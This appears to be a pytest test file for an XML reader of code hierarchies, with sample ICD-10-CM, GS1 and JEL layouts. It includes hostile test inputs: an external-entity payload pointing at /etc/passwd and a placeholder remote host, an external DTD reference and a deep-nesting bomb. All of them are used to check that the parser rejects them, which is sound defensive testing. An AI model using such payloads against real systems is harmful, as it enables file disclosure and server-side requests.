"""XML whose elements hold each other: small documents in the layouts of real ones, and hostile ones."""

from __future__ import annotations

from pathlib import Path

import pytest

from hace.errors import FormatError, HierarchyError
from hace.formats import read_hierarchy

ICD_10_CM = """<?xml version="1.0" encoding="utf-8"?>
<ICD10CM.tabular><version>2025</version><chapter><name>1</name><desc>Infections (A00-B99)</desc>
<includes><note>diseases that spread</note></includes>
<sectionIndex><sectionRef first="A00" last="A09" id="A00-A09">Gut infections</sectionRef></sectionIndex>
<section id="A00-A09"><desc>Gut infections (A00-A09)</desc>
<diag><name>A00</name><desc>Cholera</desc><diag><name>A00.0</name><desc>Classical
  cholera</desc><inclusionTerm><note>True cholera</note></inclusionTerm></diag></diag></section></chapter></ICD10CM.tabular>
"""
GS1 = (
    '<message><schema name="GPC" date="1"><segment code="10" text="Pets" definition=""><family code="1010" text="Food">'
    '<brick code="101001" text="Beds"/><brick code="101002" text="Bowls"/></family></segment></schema></message>'
)
JEL = (
    "<data><classification><code>A</code><description>General</description><classification><code>A1</code>"
    "<description>Teaching</description></classification></classification></data>"
)


@pytest.mark.parametrize(
    ("text", "edges", "id", "name"),
    [
        (ICD_10_CM, {("1", "A00-A09"), ("A00-A09", "A00"), ("A00", "A00.0")}, "A00.0", "Classical cholera"),
        (GS1, {("10", "1010"), ("1010", "101001"), ("1010", "101002")}, "101002", "Bowls"),
        (JEL, {("A", "A1")}, "A1", "Teaching"),
    ],
    ids=["ICD-10-CM", "GS1", "JEL"],
)
def test_layouts_of_publishers(
    text: str, edges: set[tuple[str, str]], id: str, name: str, tmp_path: Path
) -> None:
    path = tmp_path / "codes.xml"
    path.write_text(text, encoding="utf-8")
    h = read_hierarchy(path)
    assert {(h.nodes[parent], h.nodes[child]) for parent, child in h.edges.tolist()} == edges
    assert h.name(id) == name


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('<!DOCTYPE a [<!ENTITY b "c">]>' + JEL, "must not define anything"),
        (
            '<!DOCTYPE a SYSTEM "file:///etc/passwd" [<!ENTITY % b SYSTEM "http://x.example/b">%b;]>' + JEL,
            "must not define",
        ),
        (
            '<!DOCTYPE a SYSTEM "http://x.example/a.dtd">' + JEL.replace("General", "&b;"),
            "some node must be below",
        ),
        (JEL.replace("General", "&b;"), "must be XML"),
        (JEL[:-10] + "x>", "must be XML"),
        ("<data><a>1</a></data>", "must have elements with a code and a title"),
        ('<data><a id="1" name="x"/><a id="2" name="y"/></data>', "some node must be below another"),
        (JEL.replace("A1", "A"), "the id 'A' is there twice"),
        ("<a>" * 200_000 + "</a>" * 200_000, "must have elements with a code and a title"),
    ],
)
def test_hostile_documents_end_in_a_message(text: str, problem: str, tmp_path: Path) -> None:
    path = tmp_path / "codes.xml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises((FormatError, HierarchyError), match=problem):
        read_hierarchy(path)


def test_a_deep_document_is_read(tmp_path: Path) -> None:
    path = tmp_path / "deep.xml"
    path.write_text("".join(f'<a id="{n}" name="n">' for n in range(5000)) + "</a>" * 5000, encoding="utf-8")
    assert read_hierarchy(path).max_depth >= 4999
